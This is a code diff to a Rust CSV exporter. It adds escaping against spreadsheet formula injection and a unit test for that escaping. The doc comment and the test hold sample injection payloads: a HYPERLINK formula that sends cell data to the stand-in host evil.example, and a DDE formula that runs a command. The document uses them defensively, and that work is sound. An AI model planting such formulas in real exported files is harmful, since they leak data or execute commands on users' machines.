@@ -99,6 +99,19 @@ pub fn safe_name(s: &str) -> String {
         .collect()
 }
 
+/// A text cell as a spreadsheet will not run it: text that starts with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice
+/// (`=HYPERLINK("http://evil.example/?x="&A1,"click")` in a plan goal's title would
+/// send the sheet's data away), so it gets a leading apostrophe, which spreadsheets
+/// hide and read as "this is text" (OWASP, CSV injection). Numbers are never text
+/// cells here, so `-3.5` stays a number.
+pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => std::borrow::Cow::Owned(format!("'{s}")),
+        _ => std::borrow::Cow::Borrowed(s),
+    }
+}
+
 fn plain_number(v: f64) -> String {
     // Shortest round-trip form, with a point: machine-readable CSV.
     let s = format!("{v}");
@@ -127,12 +140,17 @@ impl Table {
     /// The table as CSV bytes (with BOM).
     pub fn to_csv(&self) -> AppResult<Vec<u8>> {
         let mut w = csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]);
-        w.write_record(&self.header).map_err(AppError::internal)?;
+        let header: Vec<String> = self
+            .header
+            .iter()
+            .map(|h| csv_text(h).into_owned())
+            .collect();
+        w.write_record(&header).map_err(AppError::internal)?;
         for r in &self.rows {
             let mut rec: Vec<String> = r
                 .iter()
                 .map(|c| match c {
-                    Cell::Text(s) => s.clone(),
+                    Cell::Text(s) => csv_text(s).into_owned(),
                     Cell::Number(v) => plain_number(*v),
                     Cell::Empty => String::new(),
                 })
@@ -253,6 +271,31 @@ fn sheet_name(title: &str, i: usize, used: &[String]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn csv_cells_never_become_formulas_and_numbers_stay_numbers() {
+        let mut t = Table::new("t", vec!["goal".into(), "value".into()]);
+        for evil in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1,2)",
+            "\t=1+1",
+            "\r=1+1",
+        ] {
+            t.push(vec![evil.into(), Cell::Number(-3.5)]);
+        }
+        t.push(vec!["Liikunta 2026".into(), Cell::Number(12.0)]);
+        let csv = String::from_utf8(t.to_csv().unwrap()).unwrap();
+        let mut rows = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+        let rows: Vec<csv::StringRecord> = rows.records().map(|r| r.unwrap()).collect();
+        for r in &rows[..6] {
+            assert!(r[0].starts_with('\''), "{:?}", &r[0]);
+            assert_eq!(&r[1], "-3.5");
+        }
+        assert_eq!(&rows[6][0], "Liikunta 2026");
+        assert_eq!(&rows[6][1], "12");
+    }
 
     fn sample() -> Table {
         let mut t = Table::new(
